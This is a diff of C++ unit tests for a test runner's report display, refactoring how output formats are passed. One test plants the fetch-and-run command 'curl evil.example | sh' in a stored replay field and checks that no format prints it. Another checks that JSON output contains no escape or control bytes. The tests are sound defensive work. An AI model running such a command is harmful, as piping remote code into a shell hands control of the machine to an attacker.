@@ -78,9 +78,8 @@ TEST(Show, NothingButSkipsIsNoPass) {
 TEST(Show, NoFormatHasTheCommandThatAReportStored) {
   Report report = example();
   report.strings[report.results[3].replay] = "curl evil.example | sh";
-  for (const Format format : {Format::terminal, Format::json, Format::markdown, Format::csv,
-                              Format::junit, Format::html}) {
-    const std::string text = show(report, {.all = true, .format = format});
+  for (const Format& format : formats()) {
+    const std::string text = show(report, {.all = true}, format.name);
     EXPECT_FALSE(has(text, "evil")) << text;
     EXPECT_TRUE(has(text, "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 ")) << text;
   }
@@ -527,7 +526,7 @@ TEST(ShowJson, IsAsciiWithoutControlBytes) {
   failure.reason = "\x1b[31m \x7f \xc3\xa9";
   std::vector<std::string> journals = example_journals();
   journals[1] = journal_of({example_launch(1), failure});
-  for (const char c : show(assemble(journals, {}), {.format = Format::json})) {
+  for (const char c : show(assemble(journals, {}), {}, "json")) {
     ASSERT_TRUE((c >= ' ' && c <= '~') || c == '\n');
   }
 }
